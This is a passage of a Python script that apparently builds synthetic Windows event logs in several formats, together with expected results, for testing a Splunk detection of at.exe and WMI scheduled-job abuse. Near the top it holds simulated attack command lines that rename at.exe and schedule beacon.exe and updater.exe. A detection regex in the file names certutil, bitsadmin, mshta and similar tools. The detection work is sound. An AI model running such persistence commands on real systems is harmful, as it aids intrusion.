        "cmd.exe /c copy C:\\Windows\\System32\\at.exe C:\\Users\\Public\\svc.exe",
        cmd,
    )
    renamed = s.spawn(
        215.77,
        "C:\\Users\\Public\\svc.exe",
        "svc.exe 22:30 /every:M,T,W,Th,F " "C:\\Users\\Public\\beacon.exe",
        cmd,
        tag="attack",
        file_meta=IMAGE_META["at.exe"],
    )
    job_runs(
        s,
        215.85,
        "C:\\Users\\Public\\beacon.exe",
        "C:\\Users\\Public\\beacon.exe",
        "At1",
        "2026-03-13T22:30:00",
        renamed.pid,
        1284.5,
    )
    benign_background(s, 220, 500, 4)
    s.spawn(
        512.31,
        "C:\\WINDOWS\\system32\\AT.EXE",
        "AT.EXE 23:45 C:\\ProgramData\\updater.exe",
        cmd,
        tag="attack",
    )
    s.add(
        sysmon_11(
            eng, at(s.base, 512.4), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"
        )
    )
    benign_background(s, 520, 1700, 6)
    scenarios.append(s)
    return scenarios


# ---------------------------------------------------------------------------------------------
# Renderers
# ---------------------------------------------------------------------------------------------

TEXT_ENTITIES = {'"': "&quot;", "'": "&apos;"}


def xml_line(ev):
    """The event as Splunk stores XmlWinEventLog: one line, single-quoted attributes."""
    name, provider_guid = ev.provider
    security = "<Security UserID='%s'/>" % ev.user_sid if ev.user_sid else "<Security/>"
    system = (
        "<System><Provider Name='%s' Guid='%s'/><EventID>%d</EventID><Version>%d</Version>"
        "<Level>%d</Level><Task>%d</Task><Opcode>0</Opcode><Keywords>%s</Keywords>"
        "<TimeCreated SystemTime='%s'/><EventRecordID>%d</EventRecordID><Correlation/>"
        "<Execution ProcessID='%d' ThreadID='%d'/><Channel>%s</Channel><Computer>%s</Computer>%s"
        "</System>"
        % (
            name,
            provider_guid,
            ev.eid,
            ev.version,
            ev.level,
            ev.task,
            ev.keywords,
            system_time(ev.when),
            ev.record,
            ev.execution[0],
            ev.execution[1],
            ev.channel,
            ev.host.fqdn,
            security,
        )
    )
    data = "".join("<Data Name='%s'>%s</Data>" % (k, escape(v, TEXT_ENTITIES)) for k, v in ev.data)
    # Line breaks inside a value become character references: one event, one line.
    data = data.replace("\r", "&#13;").replace("\n", "&#10;")
    return (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>%s<EventData>%s"
        "</EventData></Event>" % (system, data)
    )


TOKEN_PARAGRAPHS = (
    "Token Elevation Type indicates the type of token that was assigned to the new process in "
    "accordance with User Account Control policy.\n\n"
    "Type 1 is a full token with no privileges removed or groups disabled.  A full token is only "
    "used if User Account Control is disabled or if the user is the built-in Administrator account "
    "or a service account.\n\n"
    "Type 2 is an elevated token with no privileges removed or groups disabled.  An elevated token "
    "is used when User Account Control is enabled and the user chooses to start the program using "
    "Run as administrator.  An elevated token is also used when an application is configured to "
    "always require administrative privilege or to always require maximum privilege, and the user "
    "is a member of the Administrators group.\n\n"
    "Type 3 is a limited token with administrative privileges removed and administrative groups "
    "disabled.  The limited token is used when User Account Control is enabled, the application "
    "does not require administrative privilege, and the user does not choose to start the program "
    "using Run as administrator."
)

LOGON_PARAGRAPHS = (
    "This event is generated when a logon session is created. It is generated on the computer "
    "that was accessed.\n\n"
    "The subject fields indicate the account on the local system which requested the logon. This "
    "is most commonly a service such as the Server service, or a local process such as Winlogon.exe "
    "or Services.exe.\n\n"
    "The logon type field indicates the kind of logon that occurred. The most common types are 2 "
    "(interactive) and 3 (network).\n\n"
    "The New Logon fields indicate the account for whom the new logon was created, i.e. the account "
    "that was logged on.\n\n"
    "The network fields indicate where a remote logon request originated. Workstation name is not "
    "always available and may be left blank in some cases."
)


def message(ev):
    """The rendered message text (\\n line ends) that classic logs and JSON exports carry."""
    d = dict(ev.data)
    if ev.channel == SYSMON and ev.eid == 1:
        return "Process Create:\n" + "\n".join("%s: %s" % kv for kv in ev.data)
    if ev.channel == SYSMON and ev.eid == 11:
        return "File created:\n" + "\n".join("%s: %s" % kv for kv in ev.data)
    if ev.eid == 4688:
        return (
            "A new process has been created.\n\n"
            "Creator Subject:\n\tSecurity ID:\t\t{SubjectUserSid}\n\tAccount Name:\t\t{SubjectUserName}\n"
            "\tAccount Domain:\t\t{SubjectDomainName}\n\tLogon ID:\t\t{SubjectLogonId}\n\n"
            "Target Subject:\n\tSecurity ID:\t\t{TargetUserSid}\n\tAccount Name:\t\t{TargetUserName}\n"
            "\tAccount Domain:\t\t{TargetDomainName}\n\tLogon ID:\t\t{TargetLogonId}\n\n"
            "Process Information:\n\tNew Process ID:\t\t{NewProcessId}\n\tNew Process Name:\t{NewProcessName}\n"
            "\tToken Elevation Type:\t{TokenElevationType}\n\tMandatory Label:\t\t{MandatoryLabel}\n"
            "\tCreator Process ID:\t{ProcessId}\n\tCreator Process Name:\t{ParentProcessName}\n"
            "\tProcess Command Line:\t{CommandLine}\n\n".format(**d) + TOKEN_PARAGRAPHS
        )
    if ev.eid == 4624:
        return (
            "An account was successfully logged on.\n\n"
            "Subject:\n\tSecurity ID:\t\t{SubjectUserSid}\n\tAccount Name:\t\t{SubjectUserName}\n"
            "\tAccount Domain:\t\t{SubjectDomainName}\n\tLogon ID:\t\t{SubjectLogonId}\n\n"
            "Logon Information:\n\tLogon Type:\t\t{LogonType}\n\tRestricted Admin Mode:\t-\n"
            "\tVirtual Account:\t\tNo\n\tElevated Token:\t\tYes\n\n"
            "Impersonation Level:\t\tImpersonation\n\n"
            "New Logon:\n\tSecurity ID:\t\t{TargetUserSid}\n\tAccount Name:\t\t{TargetUserName}\n"
            "\tAccount Domain:\t\t{TargetDomainName}\n\tLogon ID:\t\t{TargetLogonId}\n"
            "\tLinked Logon ID:\t\t0x0\n\tNetwork Account Name:\t-\n\tNetwork Account Domain:\t-\n"
            "\tLogon GUID:\t\t{LogonGuid}\n\n"
            "Process Information:\n\tProcess ID:\t\t{ProcessId}\n\tProcess Name:\t\t{ProcessName}\n\n"
            "Network Information:\n\tWorkstation Name:\t{WorkstationName}\n"
            "\tSource Network Address:\t{IpAddress}\n\tSource Port:\t\t{IpPort}\n\n"
            "Detailed Authentication Information:\n\tLogon Process:\t\t{LogonProcessName}\n"
            "\tAuthentication Package:\t{AuthenticationPackageName}\n\tTransited Services:\t-\n"
            "\tPackage Name (NTLM only):\t-\n\tKey Length:\t\t0\n\n".format(**d) + LOGON_PARAGRAPHS
        )
    if ev.eid == 4672:
        return (
            "Special privileges assigned to new logon.\n\n"
            "Subject:\n\tSecurity ID:\t\t{SubjectUserSid}\n\tAccount Name:\t\t{SubjectUserName}\n"
            "\tAccount Domain:\t\t{SubjectDomainName}\n\tLogon ID:\t\t{SubjectLogonId}\n\n"
            "Privileges:\t\t".format(**d) + "\n\t\t\t".join(PRIVILEGES)
        )
    if ev.eid == 4634:
        return (
            "An account was logged off.\n\n"
            "Subject:\n\tSecurity ID:\t\t{TargetUserSid}\n\tAccount Name:\t\t{TargetUserName}\n"
            "\tAccount Domain:\t\t{TargetDomainName}\n\tLogon ID:\t\t{TargetLogonId}\n\n"
            "Logon Type:\t\t\t{LogonType}\n\n"
            "This event is generated when a logon session is destroyed. It may be positively correlated "
            "with a logon event using the Logon ID value. Logon IDs are only unique between reboots on "
            "the same computer.".format(**d)
        )
    if ev.eid == 4698:
        return (
            "A scheduled task was created.\n\n"
            "Subject:\n\tSecurity ID:\t\t{SubjectUserSid}\n\tAccount Name:\t\t{SubjectUserName}\n"
            "\tAccount Domain:\t\t{SubjectDomainName}\n\tLogon ID:\t\t{SubjectLogonId}\n\n"
            "Task Information:\n\tTask Name: \t\t{TaskName}\n\tTask Content: \t\t{TaskContent}\n\n"
            "Other Information:\n\tProcessCreationTime: \t\t{ClientProcessStartKey}\n"
            "\tClientProcessId: \t\t\t{ClientProcessId}\n\tParentProcessId: \t\t\t{ParentProcessId}\n"
            "\tFQDN: \t\t{FQDN}".format(**d).replace("\r\n", "\n")
        )
    raise ValueError("no message for %s %d" % (ev.channel, ev.eid))


CLASSIC_HEADER = {
    4688: ("Process Creation", "A new process has been created."),
    4624: ("Logon", "An account was successfully logged on."),
    4672: ("Special Logon", "Special privileges assigned to new logon."),
    4634: ("Logoff", "An account was logged off."),
    4698: ("Other Object Access Events", "A scheduled task was created."),
}


def classic(ev):
    """The event as Splunk's classic WinEventLog input writes it (local time = UTC here)."""
    body = message(ev)
    lines = [
        ev.when.strftime("%m/%d/%Y %I:%M:%S %p"),
        "LogName=Security",
        "EventCode=%d" % ev.eid,
        "EventType=0",
        "ComputerName=%s" % ev.host.fqdn,
        "SourceName=Microsoft Windows security auditing.",
        "Type=Information",
        "RecordNumber=%d" % ev.record,
        "Keywords=Audit Success",
        "TaskCategory=%s" % CLASSIC_HEADER[ev.eid][0],
        "OpCode=Info",
        "Message=" + body,
    ]
    return "\n".join(lines) + "\n"


SYSMON_TASK = {
    1: "Process Create (rule: ProcessCreate)",
    11: "File created (rule: FileCreate)",
}


def classic_sysmon(ev):
    """A Sysmon event as Splunk's classic WinEventLog input writes it: Label: value lines."""
    lines = [
        ev.when.strftime("%m/%d/%Y %I:%M:%S %p"),
        "LogName=" + SYSMON,
        "EventCode=%d" % ev.eid,
        "EventType=4",
        "ComputerName=%s" % ev.host.fqdn,
        "User=NOT_TRANSLATED",
        "Sid=S-1-5-18",
        "SidType=0",
        "SourceName=Microsoft-Windows-Sysmon",
        "Type=Information",
        "RecordNumber=%d" % ev.record,
        "Keywords=None",
        "TaskCategory=%s" % SYSMON_TASK[ev.eid],
        "OpCode=Info",
        "Message=" + message(ev),
    ]
    return "\n".join(lines) + "\n"


def crlf(text):
    return text.replace("\n", "\r\n")


def nxlog(ev):
    """A flat NXLog/OTRF JSON object: System values, the message, EventData at top level."""
    name, provider_guid = ev.provider
    obj = {
        "SourceName": name,
        "ProviderGuid": provider_guid.lower(),
        "Level": str(ev.level),
        "Keywords": ev.keywords,
        "Channel": ev.channel,
        "Hostname": ev.host.fqdn,
        "TimeCreated": iso_ms(ev.when),
        "@timestamp": iso_ms(ev.when),
        "EventID": ev.eid,
        "RecordNumber": ev.record,
        "ProcessID": ev.execution[0],
        "ThreadID": ev.execution[1],
        "Message": crlf(message(ev)),
        "Task": str(ev.task),
    }
    for key, value in ev.data:
        obj[key] = value
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


WINLOGBEAT_TASK = {
    1: "Process Create (rule: ProcessCreate)",
    11: "File created (rule: FileCreate)",
    4688: "Process Creation",
    4624: "Logon",
    4672: "Special Logon",
    4634: "Logoff",
    4698: "Other Object Access Events",
}


def winlogbeat(ev):
    """A Winlogbeat 8 document: ECS envelope, winlog.event_data with the XML names."""
    name, provider_guid = ev.provider
    winlog = {
        "channel": ev.channel,
        "event_id": str(ev.eid),
        "provider_name": name,
        "provider_guid": provider_guid,
        "record_id": str(ev.record),
        "computer_name": ev.host.fqdn,
        "api": "wineventlog",
        "task": WINLOGBEAT_TASK[ev.eid],
        "opcode": "Info",
        "version": ev.version,
        "process": {"pid": ev.execution[0], "thread": {"id": ev.execution[1]}},
        "event_data": dict(ev.data),
    }
    if ev.channel == SECURITY:
        winlog["keywords"] = ["Audit Success"]
    else:
        winlog["user"] = {
            "identifier": "S-1-5-18",
            "domain": "NT AUTHORITY",
            "name": "SYSTEM",
            "type": "User",
        }
    doc = {
        "@timestamp": iso_ms(ev.when),
        "event": {
            "code": str(ev.eid),
            "kind": "event",
            "provider": name,
            "created": iso_ms(
                ev.when + dt.timedelta(seconds=1, microseconds=rng.randint(0, 900000))
            ),
            "action": WINLOGBEAT_TASK[ev.eid],
        },
        "host": {"name": ev.host.fqdn},
        "agent": {"type": "winlogbeat", "version": "8.15.3", "name": ev.host.short},
        "ecs": {"version": "8.0.0"},
        "log": {"level": "information"},
        "message": crlf(message(ev)),
        "winlog": winlog,
    }
    return json.dumps(doc, ensure_ascii=False, separators=(",", ":"))


def splunk_export(ev, offset, last):
    """One line of `splunk search ... -output json` / the REST export endpoint."""
    sourcetype = "XmlWinEventLog:" + ev.channel
    result = {
        "_bkt": "wineventlog~412~6A0F3C1E-77B2-4E1D-9C55-2B8D4F7A9E31",
        "_cd": "412:%d" % (ev.record % 900000),
        "_indextime": str(int(ev.when.timestamp()) + rng.randint(1, 4)),
        "_raw": xml_line(ev),
        "_serial": str(offset),
        "_si": ["idx01.kestrel.lan", "wineventlog"],
        "_sourcetype": sourcetype,
        "_time": iso_ms(ev.when, zulu=False),
        "host": ev.host.splunk_host,
        "index": "wineventlog",
        "linecount": "1",
        "source": sourcetype,
        "sourcetype": sourcetype,
        "splunk_server": "idx01.kestrel.lan",
    }
    line = {"preview": False, "offset": offset}
    if last:
        line["lastrow"] = True
    line["result"] = result
    return json.dumps(line, ensure_ascii=False, separators=(",", ":"))


# ---------------------------------------------------------------------------------------------
# The reference query, transcribed (legacy add-on profile, Splunk semantics)
# ---------------------------------------------------------------------------------------------

SOURCETYPES = ("xmlwineventlog:microsoft-windows-sysmon/operational", "wineventlog:security")
COLUMNS = [
    "_time",
    "host",
    "User",
    "Image",
    "CommandLine",
    "ParentImage",
    "IsSuspiciousPayload",
    "IsInteractive",
    "IsSuspiciousParent",
    "IsWMIScheduledJob",
    "SuspicionScore",
]


def ends(fields, name, suffix):
    value = fields.get(name)
    return value is not None and value.lower().endswith(suffix.lower())


def has(fields, name, part):
    value = fields.get(name)
    return value is not None and part.lower() in value.lower()


def search(view):
    f = view["fields"]
    if view["index"].lower() != "wineventlog" or view["sourcetype"].lower() not in SOURCETYPES:
        return False
    code = f.get("EventCode")
    sysmon1, proc4688 = code == "1", code == "4688"
    return (
        (sysmon1 and (ends(f, "Image", "\\at.exe") or ends(f, "Image", "\\at")))
        or (
            proc4688
            and (ends(f, "NewProcessName", "\\at.exe") or ends(f, "NewProcessName", "\\at"))
        )
        or (sysmon1 and ends(f, "Image", "\\wmic.exe") and has(f, "CommandLine", "ScheduledJob"))
        or (
            sysmon1
            and (ends(f, "Image", "\\powershell.exe") or ends(f, "Image", "\\pwsh.exe"))
            and has(f, "CommandLine", "Win32_ScheduledJob")
        )
        or (
            proc4688
            and ends(f, "NewProcessName", "\\wmic.exe")
            and has(f, "CommandLine", "ScheduledJob")
        )
    )


def flag(value, pattern):
    """if(match(lower(x), pattern), 1, 0): a NULL x makes match NULL, and if() gives 0."""
    return 0 if value is None or not re.search(pattern, value.lower()) else 1


def coalesce(*values):
    return next((v for v in values if v is not None), None)


def reference_query(views):
    rows = []
    for view in views:
        if not search(view):
            continue
        f = view["fields"]
        command_line = coalesce(f.get("CommandLine"), f.get("ProcessCommandLine"))
        image = coalesce(f.get("Image"), f.get("NewProcessName"))
        parent = coalesce(f.get("ParentImage"), f.get("ParentProcessName"))
        user = coalesce(f.get("User"), f.get("SubjectUserName"))
        host = coalesce(view["host"], f.get("ComputerName"))
        payload = flag(
            command_line,
            r"(cmd\.exe|powershell|wscript|cscript|mshta|rundll32|regsvr32"
            r"|certutil|bitsadmin|\.bat|\.vbs|\.ps1|\.hta)",
        )
        interactive = flag(command_line, r"/interactive")
        bad_parent = flag(parent, r"(powershell|wscript|cscript|mshta|python|perl|ruby)")
        wmi = flag(command_line, r"(win32_scheduledjob|scheduledjob)")
        score = payload + interactive + bad_parent + wmi
        # where SuspicionScore > 0 OR Image LIKE "%\\at.exe": LIKE is case-sensitive.
        if not (score > 0 or (image is not None and image.endswith("\\at.exe"))):
            continue
        rows.append(
            (
                view["time"],
                [
                    iso_ms(view["time"], zulu=False),
                    host,
                    user,
                    image,
                    command_line,
                    parent,
                    payload,
                    interactive,
                    bad_parent,
                    wmi,
                    score,
                ],
            )
        )
    rows.sort(key=lambda r: r[0], reverse=True)
    return [r[1] for r in rows]


def xml_view(ev, host=None):
    fields = {"EventCode": str(ev.eid)}
    for key, value in ev.data:
        if value != "":
            fields[key] = value
    return {
        "time": ev.when,
        "host": host or ev.host.fqdn,
        "index": "wineventlog",
        "sourcetype": "XmlWinEventLog:" + ev.channel,
        "fields": fields,
    }


def classic_view(ev):
    """Fields of the classic text: header keys and Label_With_Underscores (first value kept)."""
    fields = {"EventCode": str(ev.eid), "ComputerName": ev.host.fqdn, "LogName": "Security"}
    for line in message(ev).split("\n"):
        match = re.match(r"^\t*([A-Za-z][A-Za-z ()]*):\t+(.*)$", line)
        if match and match.group(2):
            fields.setdefault(match.group(1).replace(" ", "_"), match.group(2))
    return {
        "time": ev.when,
        "host": ev.host.fqdn,
        "index": "wineventlog",
        "sourcetype": "WinEventLog:Security",
        "fields": fields,
    }


def classic_sysmon_view(ev):
    """Fields of classic Sysmon text: header keys, then the labels under their XML names."""
    fields = {"EventCode": str(ev.eid), "ComputerName": ev.host.fqdn, "LogName": SYSMON}
    fields["User"] = "NOT_TRANSLATED"
    for key, value in ev.data:
        if value != "":
            fields[key] = value
    return {
        "time": ev.when.replace(microsecond=0),
        "host": ev.host.fqdn,
        "index": "wineventlog",
        "sourcetype": "WinEventLog:" + SYSMON,
        "fields": fields,
    }


# ---------------------------------------------------------------------------------------------
# Output
# ---------------------------------------------------------------------------------------------


def write(name, lines, views):
    path = HERE / name
    with open(path, "w", encoding="utf-8", newline="\n") as out:
        for line in lines:
            out.write(line if line.endswith("\n") else line + "\n")
    expected = EXPECTED / (name + ".expected.csv")
    expected.parent.mkdir(exist_ok=True)
    with open(expected, "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(COLUMNS)
        for row in reference_query(views):
            writer.writerow(["" if v is None else v for v in row])
    return path


def summary(name, events):
    tags = {}
    for ev in events:
        tags[ev.tag] = tags.get(ev.tag, 0) + 1
    return "%-40s %4d events  %s" % (
        name,
        len(events),
        " ".join("%s=%d" % kv for kv in sorted(tags.items())),
    )


def main():
    scenarios = build_scenarios()
    report = []
    all_security = []
    all_sysmon = []
    for scn in scenarios:
        events = scn.sorted_events()
        sysmon = [e for e in events if e.channel == SYSMON]
        security = [e for e in events if e.channel == SECURITY]
        all_security.extend(security)
        all_sysmon.extend(sysmon)
        files = {
            "sysmon-%s.xml"
            % scn.name: (sysmon, [xml_line(e) for e in sysmon], [xml_view(e) for e in sysmon]),
            "security-4688-%s.xml"
            % scn.name: (
                security,
                [xml_line(e) for e in security],
                [xml_view(e) for e in security],
            ),
            "json-nxlog-%s.json"
            % scn.name: (events, [nxlog(e) for e in events], [xml_view(e) for e in events]),
            "json-winlogbeat-%s.json"
            % scn.name: (events, [winlogbeat(e) for e in events], [xml_view(e) for e in events]),
        }
        newest_first = list(reversed(events))
        files["splunk-export-%s.json" % scn.name] = (
            newest_first,
            [splunk_export(e, i, i == len(newest_first) - 1) for i, e in enumerate(newest_first)],
            [xml_view(e, e.host.splunk_host) for e in newest_first],
        )
        for name, (evs, lines, views) in files.items():
            write(name, lines, views)
            report.append(summary(name, evs))
    all_security.sort(key=lambda e: e.when)
    write(
        "security-4688-classic.log",
        [classic(e) for e in all_security],
        [classic_view(e) for e in all_security],
    )
    report.append(summary("security-4688-classic.log", all_security))
    all_sysmon.sort(key=lambda e: e.when)
    write(
        "sysmon-classic.log",
        [classic_sysmon(e) for e in all_sysmon],
        [classic_sysmon_view(e) for e in all_sysmon],
    )
    report.append(summary("sysmon-classic.log", all_sysmon))
    print("\n".join(report))


if __name__ == "__main__":
    main()
